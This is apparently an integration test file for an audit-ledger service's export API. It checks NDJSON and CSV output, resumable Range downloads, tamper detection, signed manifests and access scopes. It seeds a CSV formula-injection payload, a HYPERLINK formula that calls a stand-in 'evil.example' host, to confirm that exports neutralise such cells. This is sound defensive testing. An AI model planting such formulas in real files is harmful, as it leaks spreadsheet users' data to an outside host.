import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CompactSign, exportJWK, generateKeyPair } from 'jose';
import { canonicalJson } from '../../src/common/canonical-json';
import { type ManifestDocument, MANIFEST_JWS_TYPE, verifyExport } from '../../src/exports/export-manifest';
import { parse } from 'csv-parse/sync';
import { ExportsRepository } from '../../src/exports/exports.repository';
import { ExportsWorker } from '../../src/exports/exports.worker';
import { CSV_COLUMNS } from '../../src/exports/export-formats';
import { runCli } from '../support/process';
import { fieldsOf, issueApiKey, linkNow, problemOf, startTestApp, type TestApp, binaryBody } from '../support/app';
import { aConsent, aToken, aToolCall, aVerification, randomDigest, registerSenders } from '../support/events';

interface ExportJobBody {
  id: string;
  status: string;
  format: string;
  attempts: number;
  sha256: string | null;
  checkpoint_tree_size: number | null;
  progress: { records_done: number; records_total: number | null; bytes: number; percent: number | null; eta_seconds: number | null };
  download: string | null;
}

interface NdjsonRecord {
  ledger_seq: number;
  kind: string;
  event_id: string;
  source: string;
  type: string;
  occurred_at: string;
  chain_digests: string[];
  payload_purged: boolean;
  data: Record<string, unknown> | null;
}

/** `jartrail verify EXPORT --manifest MANIFEST --jwks JWKS` as a user runs it: the built CLI, in its own process. */
const cliVerify = (file: string, manifest: string, jwks: string) => runCli(['verify', file, '--manifest', manifest, '--jwks', jwks]);

/**
 * Exports over real HTTP against a real PostgreSQL: jobs (create, progress, cancel, expiry, a job whose worker died),
 * NDJSON and CSV parsed back and compared with the chain documents, Range resumption byte for byte, formula cells,
 * bad input, the scope, and the access log of each delivery. The worker runs when a test says (runDue), so that no
 * assertion depends on timing.
 */
describe('exports', () => {
  let app: TestApp;
  let exporter: string;
  let digest: string;
  let otherDigest: string;
  const formula = `=HYPERLINK("https://evil.example/?"&A1,"click")`;

  beforeAll(async () => {
    // Small chunks, so that a file of a few kilobytes spans several and Range reads cross their boundaries.
    app = await startTestApp({ env: { EXPORTS_ENABLED: 'false', EXPORTS_CHUNK_BYTES: '1024' } });
    exporter = (await issueApiKey(app, ['audit:export'], 'compliance-export')).key;
    const senders = await registerSenders(app);
    digest = randomDigest();
    otherDigest = randomDigest();
    const jti = `at-${randomUUID()}`;
    await senders.as.event(aVerification({ digest, client_id: 'export-client' })).expect(202);
    await senders.as.event(aConsent({ digest })).expect(202);
    await senders.tokens.event(aToken({ digest, jti })).expect(202);
    for (let index = 0; index < 12; index++) {
      // Attacker-controlled text that a spreadsheet would run as a formula.
      await senders.agent.event(aToolCall({ token: { jti }, tool: index === 0 ? formula : 'mail', agent_id: index === 1 ? '+cmd' : '@agent', action: '-send' })).expect(202);
    }
    await senders.as.event(aVerification({ digest: otherDigest, client_id: 'other-client' })).expect(202);
    await linkNow(app);
  });
  afterAll(async () => {
    await app.close();
  });

  const post = (body: unknown, key = exporter) => app.http().post('/v1/exports').set('authorization', `Bearer ${key}`).send(body as object);
  const get = (path: string, key = exporter) => app.http().get(path).set('authorization', `Bearer ${key}`);
  const runDue = () => app.app.get(ExportsWorker).runDue();
  const job = async (id: string) => (await get(`/v1/exports/${id}`).expect(200)).body as ExportJobBody;
  const download = (id: string, range?: string) => {
    const test = get(`/v1/exports/${id}/download`);
    return binaryBody(range === undefined ? test : test.set('range', range));
  };
  const exportOf = async (body: unknown): Promise<{ job: ExportJobBody; file: Buffer }> => {
    const created = (await post(body).expect(202)).body as ExportJobBody;
    expect(created).toMatchObject({ status: 'queued', download: null });
    await runDue();
    const done = await job(created.id);
    expect(done.status).toBe('completed');
    const response = await download(done.id).expect(200);
    return { job: done, file: response.body as Buffer };
  };
  const chainRecords = async (chain: string) => {
    type ChainRecord = { event_id: string; type: string; data: unknown; ledger: { seq: number } };
    const document = (await app.get(`/v1/chains/${chain}`).expect(200)).body as {
      request_object: { verifications: ChainRecord[] };
      consents: ChainRecord[];
      tokens: ChainRecord[];
      revocations: ChainRecord[];
      tool_calls: ChainRecord[];
    };
    return [...document.request_object.verifications, ...document.consents, ...document.tokens, ...document.revocations, ...document.tool_calls];
  };

  it('exports every record as NDJSON, one a line with its ledger seq and chain, equal to the chain documents, hashed as delivered', async () => {
    const { job: done, file } = await exportOf({ format: 'ndjson' });
    const lines = file.toString('utf8').split('\n');
    expect(lines.pop()).toBe('');
    const records = lines.map((line) => JSON.parse(line) as NdjsonRecord);
    expect(done.progress).toMatchObject({ records_done: records.length, records_total: records.length, bytes: file.length, percent: 100, eta_seconds: 0 });
    expect(done.sha256).toBe(createHash('sha256').update(file).digest('hex'));
    expect(records.map((record) => record.ledger_seq)).toEqual([...records.map((record) => record.ledger_seq)].sort((a, b) => a - b));
    expect(records.every((record) => record.ledger_seq < done.checkpoint_tree_size!)).toBe(true);

    for (const chain of [digest, otherDigest]) {
      const expected = await chainRecords(chain);
      const exported = records.filter((record) => record.chain_digests.includes(chain));
      expect(exported.map((record) => ({ event_id: record.event_id, type: record.type, data: record.data, seq: record.ledger_seq })).sort((a, b) => a.seq - b.seq)).toEqual(
        expected.map((record) => ({ event_id: record.event_id, type: record.type, data: record.data, seq: record.ledger.seq })).sort((a, b) => a.seq - b.seq),
      );
    }
    expect(records).toHaveLength(16);
  });

  it('exports the records of one client as RFC 4180 CSV with the documented columns, and neutralises formula cells', async () => {
    const { file } = await exportOf({ format: 'csv', scope: { client_id: 'export-client' } });
    const text = file.toString('utf8');
    expect(text.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    const rows = parse(text, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    const expected = await chainRecords(digest);
    expect(rows.map((row) => row.event_id).sort()).toEqual(expected.map((record) => record.event_id).sort());
    for (const row of rows) {
      const record = expected.find((candidate) => candidate.event_id === row.event_id)!;
      expect({ seq: Number(row.ledger_seq), type: row.type, chains: row.chain_digests, data: JSON.parse(row.data) }).toEqual({
        seq: record.ledger.seq,
        type: record.type,
        chains: digest,
        data: record.data,
      });
    }
    const calls = rows.filter((row) => row.type === 'tool_call.recorded');
    expect(calls.map((row) => row.tool)).toContain(`'${formula}`);
    expect(calls.map((row) => row.agent_id)).toEqual(expect.arrayContaining(["'+cmd", "'@agent"]));
    expect(calls.every((row) => row.action === "'-send")).toBe(true);
    // No cell of the file starts a formula.
    const cells = (parse(text, { record_delimiter: '\r\n' }) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('narrows by type, time and ledger seq', async () => {
    const { file } = await exportOf({ format: 'ndjson', scope: { types: ['tool_call.recorded'], from: '2000-01-01T00:00:00Z' } });
    const records = file.toString('utf8').trim().split('\n').map((line) => JSON.parse(line) as NdjsonRecord);
    expect(records).toHaveLength(12);
    expect(records.every((record) => record.type === 'tool_call.recorded')).toBe(true);

    const empty = await exportOf({ format: 'ndjson', scope: { to: '2000-01-01T00:00:00Z' } });
    expect(empty.file.length).toBe(0);
    expect(empty.job.progress).toMatchObject({ records_done: 0, records_total: 0 });

    const seqs = await exportOf({ format: 'ndjson', scope: { from_seq: 2, to_seq: 5 } });
    expect(seqs.file.toString('utf8').trim().split('\n').map((line) => (JSON.parse(line) as NdjsonRecord).ledger_seq)).toEqual([2, 3, 4]);
  });

  it('resumes a download with Range byte for byte, across chunk boundaries, and refuses a range past the end with 416', async () => {
    const { job: done, file } = await exportOf({ format: 'csv' });
    expect(file.length).toBeGreaterThan(3 * 1024);
    for (const cut of [1, 1023, 1024, 1025, 2500, file.length - 1]) {
      const rest = await download(done.id, `bytes=${cut}-`).expect(206);
      expect(rest.headers['content-range']).toBe(`bytes ${cut}-${file.length - 1}/${file.length}`);
      expect(Number(rest.headers['content-length'])).toBe(file.length - cut);
      expect(Buffer.concat([file.subarray(0, cut), rest.body as Buffer]).equals(file)).toBe(true);
    }
    const middle = await download(done.id, 'bytes=1000-2100').expect(206);
    expect((middle.body as Buffer).equals(file.subarray(1000, 2101))).toBe(true);
    const suffix = await download(done.id, 'bytes=-10').expect(206);
    expect((suffix.body as Buffer).equals(file.subarray(file.length - 10))).toBe(true);

    const whole = await download(done.id).expect(200);
    expect(whole.headers).toMatchObject({ 'content-length': String(file.length), 'accept-ranges': 'bytes', etag: `"${done.sha256}"` });

    const refused = await get(`/v1/exports/${done.id}/download`).set('range', `bytes=${file.length}-`);
    const problem = problemOf(refused, 416, 'range-not-satisfiable');
    expect(refused.headers['content-range']).toBe(`bytes */${file.length}`);
    expect(fieldsOf(problem)).toEqual([['headers.range', 'unsatisfiable']]);
  });

  it('stores the file compressed, and refuses to send a stored chunk that was altered or cut in the database', async () => {
    const { job: done, file } = await exportOf({ format: 'ndjson' });
    const stored = await app.db.rows<{ chunk_no: number; encoding: string; stored: number }>(
      `SELECT "chunk_no", "encoding", octet_length("data") AS stored FROM "export_chunks" WHERE "export_id" = $1 ORDER BY "chunk_no"`,
      [done.id],
    );
    expect(stored.length).toBe(Math.ceil(file.length / 1024));
    expect(stored.every((chunk) => chunk.encoding === 'br' && chunk.stored < 1024)).toBe(true);
    // Stored as they are: PostgreSQL does not try to compress them again (its TOAST compression only fails on them).
    const [column] = await app.db.rows<{ attstorage: string }>(`SELECT "attstorage" FROM pg_attribute WHERE "attrelid" = 'export_chunks'::regclass AND "attname" = 'data'`);
    expect(column!.attstorage).toBe('e');

    // Someone with write access to the database swaps chunk 1 for another chunk's bytes (a valid encoding, the
    // wrong length for its place), then truncates chunk 2: neither reaches a client as part of the file.
    await app.db.rows(`UPDATE "export_chunks" SET "data" = (SELECT "data" FROM "export_chunks" WHERE "export_id" = $1 AND "chunk_no" = $2) WHERE "export_id" = $1 AND "chunk_no" = 1`, [
      done.id,
      stored.length - 1,
    ]);
    const cutShort = async (range: string) => {
      const answer = await download(done.id, range).then(
        (response) => response.body as Buffer,
        () => 'aborted' as const,
      );
      return answer === 'aborted' || answer.length < file.length - Number(/\d+/.exec(range)![0]);
    };
    expect(await cutShort('bytes=0-')).toBe(true);
    await app.db.rows(`UPDATE "export_chunks" SET "data" = substring("data" FROM 1 FOR octet_length("data") - 3) WHERE "export_id" = $1 AND "chunk_no" = 2`, [done.id]);
    expect(await cutShort('bytes=2048-')).toBe(true);
    // The chunks before the damage are still served.
    expect(((await download(done.id, 'bytes=0-1023').expect(206)).body as Buffer).equals(file.subarray(0, 1024))).toBe(true);
  });

  it('records each export and each delivery in the access log, with the scope and the SHA-256 of what was delivered', async () => {
    const { job: done } = await exportOf({ format: 'ndjson', scope: { types: ['consent.decision'] } });
    await download(done.id, 'bytes=5-').expect(206);
    const details = await app.db.rows<{ route: string; status: number; detail: Record<string, unknown> }>(
      `SELECT "route", "status", "detail" FROM "access_records" WHERE "detail"->>'export_id' = $1 ORDER BY "seq"`,
      [done.id],
    );
    expect(details).toEqual([
      { route: '/v1/exports', status: 202, detail: { action: 'export_created', export_id: done.id, format: 'ndjson', scope: { types: ['consent.decision'] } } },
      { route: '/v1/exports/:id/download', status: 200, detail: expect.objectContaining({ action: 'export_download', sha256: done.sha256, bytes: done.progress.bytes }) },
      {
        route: '/v1/exports/:id/download',
        status: 200,
        detail: expect.objectContaining({ file_sha256: done.sha256, range: `5-${done.progress.bytes - 1}`, bytes: done.progress.bytes - 5 }),
      },
    ]);
  });

  it('cancels a queued job, and a running one stops writing at its next chunk', async () => {
    const queued = (await post({ format: 'ndjson' }).expect(202)).body as ExportJobBody;
    expect((await app.http().delete(`/v1/exports/${queued.id}`).set('authorization', `Bearer ${exporter}`).expect(200)).body).toMatchObject({ status: 'cancelled' });
    problemOf(await app.http().post(`/v1/exports/${queued.id}/cancel`).set('authorization', `Bearer ${exporter}`), 409, 'conflict');
    problemOf(await get(`/v1/exports/${queued.id}/download`), 409, 'conflict');
    await runDue();
    expect((await job(queued.id)).status).toBe('cancelled');

    // A worker holds the job (claimed, as a replica would) when the reviewer cancels it.
    const running = (await post({ format: 'csv' }).expect(202)).body as ExportJobBody;
    const repository = app.app.get(ExportsRepository);
    const claimed = await repository.claim(60, 10);
    expect(claimed?.id).toBe(running.id);
    expect(await repository.writeChunk(running.id, claimed!.runToken!, { no: 0, data: Buffer.from('a,b\r\n') }, { recordsDone: 1, bytes: 5 }, 60)).toBe(true);
    expect((await app.http().post(`/v1/exports/${running.id}/cancel`).set('authorization', `Bearer ${exporter}`).expect(200)).body).toMatchObject({ status: 'cancelled' });
    expect(await repository.writeChunk(running.id, claimed!.runToken!, { no: 1, data: Buffer.from('c,d\r\n') }, { recordsDone: 2, bytes: 10 }, 60)).toBe(false);
    expect(await repository.complete(running.id, claimed!.runToken!, { recordsDone: 2, bytes: 10, sha256: Buffer.alloc(32), manifest: 'x.y.z' }, 1)).toBe(false);
    expect(await app.db.rows(`SELECT 1 FROM "export_chunks" WHERE "export_id" = $1`, [running.id])).toEqual([]);
    expect((await job(running.id)).status).toBe('cancelled');
  });

  it('takes up again a job whose worker died: the lease runs out, another worker starts it afresh and completes it', async () => {
    const reference = await exportOf({ format: 'ndjson', scope: { client_id: 'export-client' } });
    const created = (await post({ format: 'ndjson', scope: { client_id: 'export-client' } }).expect(202)).body as ExportJobBody;
    const repository = app.app.get(ExportsRepository);
    const dead = await repository.claim(60, 10);
    expect(dead?.id).toBe(created.id);
    // The dead worker got one chunk in, of what it would have written.
    expect(await repository.writeChunk(created.id, dead!.runToken!, { no: 0, data: Buffer.from('half a line') }, { recordsDone: 1, bytes: 11 }, 60)).toBe(true);
    expect(await job(created.id)).toMatchObject({ status: 'running', attempts: 1 });
    // While its lease holds, nobody else takes it.
    await runDue();
    expect(await job(created.id)).toMatchObject({ status: 'running', attempts: 1 });

    await app.db.rows(`UPDATE "exports" SET "lease_until" = now() - interval '1 second' WHERE "id" = $1`, [created.id]);
    await runDue();
    const done = await job(created.id);
    expect(done).toMatchObject({ status: 'completed', attempts: 2, sha256: reference.job.sha256 });
    expect(((await download(created.id).expect(200)).body as Buffer).equals(reference.file)).toBe(true);
    // The dead worker's token no longer writes.
    expect(await repository.writeChunk(created.id, dead!.runToken!, { no: 5, data: Buffer.from('late') }, { recordsDone: 1, bytes: 4 }, 60)).toBe(false);
  });

  it('expires: the file is removed and the job says so', async () => {
    const { job: done } = await exportOf({ format: 'csv', scope: { types: ['token.issued'] } });
    expect(Date.parse((await get(`/v1/exports/${done.id}`).expect(200)).body.expires_at)).toBeGreaterThan(Date.now() + 71 * 3600 * 1000);
    await app.db.rows(`UPDATE "exports" SET "expires_at" = now() - interval '1 second' WHERE "id" = $1`, [done.id]);
    expect(await app.app.get(ExportsWorker).expire()).toBe(1);
    expect((await job(done.id)).status).toBe('expired');
    expect(await app.db.rows(`SELECT 1 FROM "export_chunks" WHERE "export_id" = $1`, [done.id])).toEqual([]);
    const problem = problemOf(await get(`/v1/exports/${done.id}/download`), 409, 'conflict');
    expect(problem.detail).toMatch(/expired/);
  });

  describe('the signed manifest', () => {
    let trustedJwks: { keys: Record<string, unknown>[] };
    let ndjson: { job: ExportJobBody; file: Buffer; manifest: ManifestDocument };
    const failureOf = async (file: Buffer, manifest: ManifestDocument) => {
      const report = await verifyExport(file, manifest, trustedJwks);
      expect(report.ok).toBe(false);
      return report;
    };

    beforeAll(async () => {
      // The keys a reviewer pinned, from the service's well-known address (not from the manifest).
      trustedJwks = (await app.http().get('/.well-known/jwks.json').expect(200)).body;
      const made = await exportOf({ format: 'ndjson' });
      ndjson = { ...made, manifest: (await get(`/v1/exports/${made.job.id}/manifest`).expect(200)).body as ManifestDocument };
    });

    it('states the query, format, count, SHA-256, ledger seqs and checkpoint, and verifies offline with the built CLI', async () => {
      const lines = ndjson.file.toString('utf8').trim().split('\n').map((line) => JSON.parse(line) as NdjsonRecord);
      expect(ndjson.manifest.manifest).toMatchObject({
        export_id: ndjson.job.id,
        file_format: 'ndjson',
        query: {},
        records: lines.length,
        bytes: ndjson.file.length,
        sha256: ndjson.job.sha256,
        ledger_seqs: [[lines[0]!.ledger_seq, lines.at(-1)!.ledger_seq]],
        checkpoint: { kind: 'checkpoint', tree_size: ndjson.job.checkpoint_tree_size },
      });
      const dir = await mkdtemp(join(tmpdir(), 'jartrail-export-'));
      await writeFile(join(dir, 'export.ndjson'), ndjson.file);
      await writeFile(join(dir, 'manifest.json'), JSON.stringify(ndjson.manifest));
      await writeFile(join(dir, 'jwks.json'), JSON.stringify(trustedJwks));
      const ok = await cliVerify(join(dir, 'export.ndjson'), join(dir, 'manifest.json'), join(dir, 'jwks.json'));
      expect({ code: ok.code, report: JSON.parse(ok.stdout) }).toMatchObject({ code: 0, report: { kind: 'export', ok: true, keys: 'given' } });

      const changed = Buffer.from(ndjson.file);
      changed[10] = changed[10] === 0x31 ? 0x32 : 0x31;
      await writeFile(join(dir, 'changed.ndjson'), changed);
      const refused = await cliVerify(join(dir, 'changed.ndjson'), join(dir, 'manifest.json'), join(dir, 'jwks.json'));
      expect(refused.code).toBe(1);
      expect(refused.stderr).toMatch(/NOT VERIFIED: file: the file has \d+ bytes and SHA-256/);
    });

    it('verifies a CSV export too', async () => {
      const made = await exportOf({ format: 'csv', scope: { client_id: 'export-client' } });
      const manifest = (await get(`/v1/exports/${made.job.id}/manifest`).expect(200)).body as ManifestDocument;
      expect(await verifyExport(made.file, manifest, trustedJwks)).toMatchObject({ ok: true });
      expect(manifest.manifest.query).toEqual({ client_id: 'export-client' });
    });

    it('names a changed byte, a removed record and a forged signature', async () => {
      const changed = Buffer.from(ndjson.file.toString('utf8').replace('"consent.decision"', '"consent.decisioN"'), 'utf8');
      expect((await failureOf(changed, ndjson.manifest)).first_failure).toMatchObject({ subject: 'file' });

      const lines = ndjson.file.toString('utf8').split('\n');
      const removedSeq = (JSON.parse(lines[3]!) as NdjsonRecord).ledger_seq;
      const removed = Buffer.from([...lines.slice(0, 3), ...lines.slice(4)].join('\n'), 'utf8');
      const report = await failureOf(removed, ndjson.manifest);
      expect(report.checks.filter((check) => !check.ok).map((check) => check.subject)).toEqual(['file', 'records']);
      expect(report.checks.find((check) => check.subject === 'records')!.detail).toBe(
        `the file holds ${lines.length - 2} records; the manifest lists ${lines.length - 1}, and ledger seq ${removedSeq} is not in the file`,
      );

      // A forger makes the manifest fit the shortened file and signs it with a key of their own.
      const { privateKey, publicKey } = await generateKeyPair('EdDSA', { crv: 'Ed25519' });
      const claims = { ...ndjson.manifest.manifest, records: lines.length - 2, bytes: removed.length, sha256: createHash('sha256').update(removed).digest('hex') };
      const jws = await new CompactSign(Buffer.from(canonicalJson(claims), 'utf8')).setProtectedHeader({ alg: 'EdDSA', kid: 'forger', typ: MANIFEST_JWS_TYPE }).sign(privateKey);
      const forged: ManifestDocument = { kind: 'export_manifest', jws, manifest: claims, jwks: { keys: [{ ...(await exportJWK(publicKey)), kid: 'forger' }] } };
      expect((await failureOf(removed, forged)).first_failure).toMatchObject({ subject: 'manifest', detail: expect.stringMatching(/^the signature does not verify under the JWKS/) });
      // Against the keys inside the forged document it "verifies", and the report says whose keys those were.
      expect(await verifyExport(removed, forged)).toMatchObject({ keys: 'document' });

      // The manifest in the clear edited, the signature left alone.
      const edited: ManifestDocument = { ...ndjson.manifest, manifest: { ...ndjson.manifest.manifest, records: 1 } };
      expect((await failureOf(ndjson.file, edited)).first_failure).toMatchObject({ subject: 'manifest', detail: 'the manifest in the clear differs from what the signature covers' });
    });

    it("carries each record's inclusion proof with proofs=true, checked against the checkpoint's root", async () => {
      const made = await exportOf({ format: 'ndjson', proofs: true, scope: { client_id: 'export-client' } });
      expect(made.job).toMatchObject({ proofs: true });
      const manifest = (await get(`/v1/exports/${made.job.id}/manifest`).expect(200)).body as ManifestDocument;
      expect(manifest.manifest.proofs).toBe(true);
      const report = await verifyExport(made.file, manifest, trustedJwks);
      expect(report).toMatchObject({ ok: true });
      expect(report.checks.find((check) => check.subject === 'proofs')!.detail).toMatch(/^15 records, each proved in the tree of \d+ records$/);

      // One record's data changed: the file's hash fails, and the proofs name the record.
      const lines = made.file.toString('utf8').split('\n');
      const target = JSON.parse(lines[2]!) as NdjsonRecord & { proof: unknown };
      lines[2] = JSON.stringify({ ...target, data: { ...target.data, outcome: 'failed' } });
      const changed = await failureOf(Buffer.from(lines.join('\n'), 'utf8'), manifest);
      expect(changed.checks.filter((check) => !check.ok).map((check) => [check.subject, check.detail])).toEqual([
        ['file', expect.any(String)],
        ['proofs', `ledger seq ${target.ledger_seq} (event ${target.event_id}): the data differs from the payload the leaf commits to`],
      ]);
    });

    it('is there only once the export is completed', async () => {
      const queued = (await post({ format: 'csv' }).expect(202)).body as ExportJobBody;
      problemOf(await get(`/v1/exports/${queued.id}/manifest`), 409, 'conflict');
      await app.http().post(`/v1/exports/${queued.id}/cancel`).set('authorization', `Bearer ${exporter}`).expect(200);
    });
  });

  it('lists jobs newest first with keyset pages', async () => {
    const first = (await get('/v1/exports?limit=2').expect(200)).body as { items: ExportJobBody[]; next_cursor: string | null };
    expect(first.items).toHaveLength(2);
    const second = (await get(`/v1/exports?limit=2&cursor=${first.next_cursor!}`).expect(200)).body as { items: ExportJobBody[] };
    expect(second.items.map((item) => item.id)).not.toContain(first.items[0]!.id);
    const all = (await get('/v1/exports?limit=100').expect(200)).body as { items: ExportJobBody[] };
    expect(all.items.slice(2, 4).map((item) => item.id)).toEqual(second.items.map((item) => item.id));
    problemOf(await get('/v1/exports?cursor=bm9wZQ'), 400, 'invalid-request');
  });

  it.each([
    ['an unknown format', { format: 'xlsx' }, [['format', 'invalid_value']]],
    ['no format', {}, [['format', 'missing']]],
    ['a time that is not a date-time', { format: 'csv', scope: { from: 'last tuesday' } }, [['scope.from', 'invalid_format']]],
    ['an empty time range', { format: 'csv', scope: { from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' } }, [['scope.to', 'empty_range']]],
    ['an empty seq range', { format: 'csv', scope: { from_seq: 5, to_seq: 5 } }, [['scope.to_seq', 'empty_range']]],
    ['an unknown event type', { format: 'csv', scope: { types: ['token.minted'] } }, [['scope.types.0', 'invalid_value']]],
    ['an unknown finding rule', { format: 'csv', scope: { finding_rule: 'everything' } }, [['scope.finding_rule', 'invalid_value']]],
    ['proofs in a CSV export', { format: 'csv', proofs: true }, [['proofs', 'ndjson_only']]],
    ['an unknown scope filter', { format: 'csv', scope: { client: 'x' } }, [['scope.client', 'unknown_field']]],
  ])('refuses %s with a problem naming the field', async (_name, body, fields) => {
    const problem = problemOf(await post(body), 400, 'invalid-request');
    expect(fieldsOf(problem)).toEqual(fields);
  });

  it('refuses an id that is not a UUID, and answers 404 for an unknown one', async () => {
    expect(fieldsOf(problemOf(await get('/v1/exports/42'), 400, 'invalid-request'))).toEqual([['id', expect.any(String)]]);
    problemOf(await get(`/v1/exports/${randomUUID()}`), 404, 'not-found');
    problemOf(await get(`/v1/exports/${randomUUID()}/download`), 404, 'not-found');
  });

  it('needs the audit:export scope for every route', async () => {
    const reader = (await issueApiKey(app, ['audit:read'])).key;
    const { job: done } = await exportOf({ format: 'ndjson', scope: { types: ['consent.decision'] } });
    problemOf(await post({ format: 'csv' }, reader), 403, 'forbidden');
    problemOf(await get('/v1/exports', reader), 403, 'forbidden');
    problemOf(await get(`/v1/exports/${done.id}`, reader), 403, 'forbidden');
    problemOf(await get(`/v1/exports/${done.id}/download`, reader), 403, 'forbidden');
    problemOf(await app.http().post(`/v1/exports/${done.id}/cancel`).set('authorization', `Bearer ${reader}`), 403, 'forbidden');
    problemOf(await app.http().get('/v1/exports'), 401, 'unauthenticated');
  });
});
